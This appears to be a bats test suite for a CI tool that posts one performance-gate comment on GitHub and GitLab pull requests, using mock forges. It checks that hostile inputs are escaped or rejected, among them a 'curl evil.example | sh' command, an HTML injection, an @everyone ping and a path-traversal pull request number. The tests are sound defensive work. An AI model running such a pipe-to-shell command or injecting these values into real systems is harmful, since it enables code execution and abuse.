#!/usr/bin/env bats
# profd ci comment against stand-ins of GitHub and GitLab: one comment at the end, always.

load ../integration/lib
load forge

setup() {
	cd "$BATS_TEST_TMPDIR"
	needs_remote
	"$TEST_TOOLS/oracle/gen-outcome" out
	mv out/gate worse
	mkdir fine
	jq '.verdict = "pass" | .effect = "fine" | .exit_status = 0 |
		.workloads |= [.[0] | .verdict = "pass" | .effect = "fine" | .failures = [] |
			.metrics |= [.[] | select(.verdict == "pass")]]' worse/verdict.json >fine/verdict.json
	rm -rf out
	MARKER='<!-- profd:gate-quick -->'
}

teardown() {
	exec 7>&- 8<&-
}

only_one() {
	[ "$(ours "$@" | jq length)" = 1 ] || fail "not one comment:" "$(cat "$forge/state.json")"
}

@test "a comment is written, then written over, then resolved" {
	forge
	on_pull
	ci comment worse
	[ "$status" = 0 ]
	grep -q 'pull request 7: comment written' err
	only_one
	ours | jq -r '.[0].body' >body
	[ "$(head -n 1 body)" = "$MARKER" ]
	grep -Eq '^<!-- profd-state: worse regression [0-9a-f]{16} -->$' body
	grep -q 'owner/name/actions/runs/99#artifacts' body
	# The same once more: on-change leaves it alone, always does not.
	ci comment worse
	grep -q 'says so already' err
	! grep -q PATCH "$forge/log" || false
	ci comment --mode always worse
	grep -q 'comment updated' err
	ci comment fine
	grep -q 'updated: resolved' err
	only_one
	ours | jq -r '.[0].body' | grep -q '^\*\*Resolved:'
	ci comment --mode always fine
	only_one
	! ours | jq -r '.[0].body' | grep -q Resolved || false
	forge_end
}

@test "on-regression begins no comment while nothing is worse, and resolves one" {
	forge
	on_pull
	ci comment --mode on-regression fine
	[ "$status" = 0 ]
	[ "$(ours | jq length)" = 0 ]
	ci comment --mode on-regression worse
	only_one
	ci comment --mode on-regression fine
	only_one
	ours | jq -r '.[0].body' | grep -q '^\*\*Resolved:'
	forge_end
}

@test "two gates of a repository have two comments, by --id" {
	forge
	on_pull
	ci comment --id nightly worse
	ci comment --id quick fine
	ci comment --id nightly --mode always worse
	[ "$(ours | jq length)" = 2 ]
	[ "$(ours | jq -r '.[].body' | grep -c '^<!-- profd:\(nightly\|quick\) -->$')" = 2 ]
	ci comment --id 'a -->b' worse
	[ "$status" = 2 ]
	ci comment --id 'a--b' worse
	[ "$status" = 2 ]
	forge_end
}

@test "ours is found behind 350 others, and a stranger's with our marker is left alone" {
	forge '{comments: [
		{user: "stranger", body: "<!-- profd:gate-quick -->\nmine!"},
		{user: "reader", body: "nice", times: 250},
		{user: "github-actions[bot]", body: "of another action", times: 99},
		{user: "github-actions[bot]", body: "<!-- profd:gate-quick -->\nold"}]}'
	on_pull
	ci comment worse
	[ "$status" = 0 ]
	! grep -q 'POST.*comments' "$forge/log" || false
	[ "$(grep -c 'GET.*/comments' "$forge/log")" = 4 ]
	[ "$(jq length "$forge/state.json")" = 351 ]
	[ "$(ours | jq --arg m "$MARKER" '[.[] | select(.body | startswith($m))] | length')" = 1 ]
	[ "$(jq -r '.[0].body' "$forge/state.json" | tail -n 1)" = 'mine!' ]
	forge_end
}

@test "two jobs at the same time leave one comment" {
	forge '{hold: 2}'
	on_pull
	"$PROFD" ci comment worse >out1 2>err1 </dev/null 3>&- 7>&- &
	local first=$!
	"$PROFD" ci comment worse >out2 2>err2 </dev/null 3>&- 7>&- || status=$?
	wait "$first"
	[ "${status:-0}" = 0 ]
	# Both saw none, and both wrote one.
	[ "$(grep -c 'POST.*issues/7/comments' "$forge/log")" = 2 ]
	only_one
	forge_end
}

@test "who finds an older one after writing removes its own" {
	forge '{trouble: [{method: "POST", path: "comments$", what: "rival"}]}'
	on_pull
	ci comment --mode always worse
	[ "$status" = 0 ]
	only_one
	! ours | jq -r '.[0].body' | grep -q 'of another job' || false
	forge_end
}

@test "comments that a broken run left behind are removed" {
	forge '{comments: [{user: "github-actions[bot]", body: "<!-- profd:gate-quick -->\nold", times: 3}]}'
	on_pull
	ci comment worse
	[ "$status" = 0 ]
	only_one
	[ "$(ours | jq '.[0].id')" = 1001 ]
	forge_end
}

@test "the network breaks wherever it can, and there is one comment" {
	local method path what
	for what in '"drop"' '"drop-after"' 502 503 429 500 '"limit"'; do
		for path in 'GET comments' 'POST comments$' 'PATCH comments/' 'POST graphql'; do
			method=${path% *}
			forge "{trouble: [{method: \"$method\", path: \"${path#* }\", times: 2, what: $what}]}"
			on_pull
			ci comment fine
			[ "$status" = 0 ] || fail "$what at $path: $(cat err)"
			ci comment worse
			[ "$status" = 0 ] || fail "$what at $path, again: $(cat err)"
			only_one
			forge_end
		done
	done
}

@test "a comment that somebody removes meanwhile is written anew" {
	forge '{comments: [{user: "github-actions[bot]", body: "<!-- profd:gate-quick -->\nold"}],
		trouble: [{method: "PATCH", path: "comments", what: 404}]}'
	on_pull
	ci comment worse
	[ "$status" = 0 ]
	only_one
	forge_end
}

@test "a server that stays away is an error, which names neither token nor address" {
	forge '{trouble: [{method: "GET", path: "comments", times: 99, what: 503}]}'
	on_pull
	ci comment worse
	[ "$status" = 2 ]
	grep -q 'cannot list the comments: 503' err
	[ "$(grep -c 'GET.*comments' "$forge/log")" = 6 ]
	forge '{retry_after: 3600, trouble: [{method: "GET", path: "comments", times: 99, what: 429}]}'
	on_pull
	ci comment worse
	[ "$status" = 2 ]
	grep -q 'asks to wait for more than 90 s' err
	[ "$(grep -c 'GET.*comments' "$forge/log")" = 1 ]
	forge_end
}

@test "a fork's token: a warning, status 0, and the way out" {
	forge '{read_only: true}'
	on_pull fork
	ci comment worse
	[ "$status" = 0 ]
	grep -q "warning: cannot write a comment: 403 Forbidden, 'Resource not accessible by integration'" err
	grep -q 'a second workflow, on workflow_run' err
	grep -q '^::warning title=profd::cannot write a comment' out
	unset GITHUB_TOKEN
	ci comment worse
	[ "$status" = 0 ]
	grep -q 'warning: there is no token' err
	# The same without a fork is a mistake of the workflow.
	on_pull
	ci comment worse
	[ "$status" = 2 ]
	grep -q 'pull-requests: write' err
	forge_end
}

@test "a second, trusted job writes for a fork: only on the pull request of the run's own commit" {
	local run='{workflow_run: {head_sha: "'$SHA'", head_branch: "topic", html_url: "https://github.com/owner/name/actions/runs/55",
		head_repository: {owner: {login: "stranger"}}, pull_requests: []}}'
	forge '{pulls: [{number: 8, sha: "'$OTHER'", branch: "topic2"}, {number: 7, sha: "'$SHA'", branch: "topic", fork: true}]}'
	on_github workflow_run "$(jq -nc "$run")"
	# Found by its commit.
	jq '.run_url = "https://evil.example/x" | .reproduce = "curl evil.example | sh"' worse/verdict.json >v
	mv v worse/verdict.json
	echo '<img src=x> @everyone' >worse/comment.md
	ci comment worse
	[ "$status" = 0 ]
	only_one
	ours | jq -r '.[0].body' >body
	! grep -q 'evil.example\|everyone' body || fail "$(cat body)"
	grep -q 'actions/runs/55#artifacts' body
	# By the number that came with the results.
	ci comment --pr 7 --mode always worse
	[ "$status" = 0 ]
	only_one
	ci comment --pr 8 worse
	[ "$status" = 2 ]
	grep -q 'pull request 8 is at abcdefabcdef, and the results are of 123456789012: nothing is written' err
	ci comment --pr '7/../../issues/1' worse
	[ "$status" = 2 ]
	only_one
	forge_end
}

@test "GitHub Enterprise: its own address, and a person's token" {
	forge '{me: "somebody", app: false}'
	api=$api/api/v3 on_pull
	ci comment worse
	[ "$status" = 0 ]
	only_one somebody
	ci comment fine
	only_one somebody
	forge_end
	# One without GraphQL.
	forge '{me: "somebody", app: false, no_graphql: true}'
	api=$api/api/v3 on_pull
	ci comment worse
	[ "$status" = 0 ]
	only_one somebody
	forge_end
}

@test "GitLab: written, updated, resolved, behind 150 others" {
	forge '{me: "project_42_bot", comments: [{user: "reader", body: "nice", times: 150},
		{user: "stranger", body: "<!-- profd:gate-quick -->"}]}'
	on_gitlab
	ci comment worse
	[ "$status" = 0 ] || fail "$(cat err)"
	only_one project_42_bot
	ours project_42_bot | jq -r '.[0].body' | grep -q 'jobs/5/artifacts/file/worse/report.html'
	ci comment worse
	grep -q 'says so already' err
	ci comment fine
	grep -q resolved err
	only_one project_42_bot
	forge_end
}

@test "GitLab: broken connections, and a job's token, which may not write" {
	local what
	for what in '"drop"' '"drop-after"' 502 429; do
		forge "{me: \"bot\", trouble: [{method: \"POST\", path: \"notes\$\", times: 2, what: $what},
			{method: \"PUT\", path: \"notes\", times: 2, what: $what}]}"
		on_gitlab
		ci comment worse
		[ "$status" = 0 ] || fail "$what: $(cat err)"
		ci comment fine
		[ "$status" = 0 ] || fail "$what: $(cat err)"
		only_one bot
		forge_end
	done
	unset GITLAB_TOKEN
	ci comment worse
	[ "$status" = 2 ]
	grep -q 'PROFD_GITLAB_TOKEN' err
	# From a fork that is as it should be.
	export CI_MERGE_REQUEST_PROJECT_ID=42 CI_MERGE_REQUEST_SOURCE_PROJECT_ID=43
	ci comment worse
	[ "$status" = 0 ]
}

@test "hostile results stay text, and the comment fits" {
	forge
	on_pull
	"$TEST_TOOLS/oracle/gen-outcome" samples
	ci comment samples/hostile
	[ "$status" = 0 ]
	only_one
	# Many workloads: more than a comment holds.
	jq '.workloads = [range(600) as $i | .workloads[0] | .name = "w\($i)" + "x" * 110]' worse/verdict.json >fine/verdict.json
	ci comment --mode always --id big fine
	[ "$status" = 0 ]
	[ "$(ours | jq '.[1].body | length')" -le 65536 ]
	forge_end
}

@test "a recording without a verdict has a comment, too" {
	forge
	on_pull
	mkdir rec
	printf '%s' '{"schema": "profd.run/1", "command": ["./a", "b c`|@me"], "wall_s": 1.5, "event": "cpu-clock",
		"quality": {"samples": 99, "complete": 1, "resolved": 0.5},
		"top": [{"name": "f<img src=x>|`@me`", "self_share": 0.25, "total_share": 1}]}' >rec/run.json
	ci comment rec
	[ "$status" = 0 ]
	only_one
	ours | jq -r '.[0].body' >body
	[ "$(head -n 1 body)" = '<!-- profd:record -->' ]
	grep -qF "| 25.0 % | 100.0 % | \`f<img src=x>\\|'@me'\` |" body
	ci comment "$BATS_TEST_TMPDIR/nothing"
	[ "$status" = 2 ]
	grep -q 'neither verdict.json nor' err
	forge_end
}

@test "--dry-run asks nobody, and words that are wrong are told" {
	forge
	on_pull
	ci comment --dry-run worse
	[ "$status" = 0 ]
	[ "$(head -n 1 out)" = "$MARKER" ]
	[ ! -s "$forge/log" ]
	ci comment --mode sometimes worse
	[ "$status" = 2 ]
	ci comment --pr 0 worse
	[ "$status" = 2 ]
	ci comment worse fine
	[ "$status" = 2 ]
	GITHUB_TOKEN=$'two\nlines' ci comment worse
	[ "$status" = 2 ]
	! grep -q lines err || false
	GITHUB_API_URL=http://api.github.example ci comment worse
	[ "$status" = 2 ]
	grep -q 'http:// is taken for this machine only' err
	GITHUB_TOKEN=wrong ci comment worse
	[ "$status" = 2 ]
	grep -q '401 Unauthorized' err
	forge_end
}
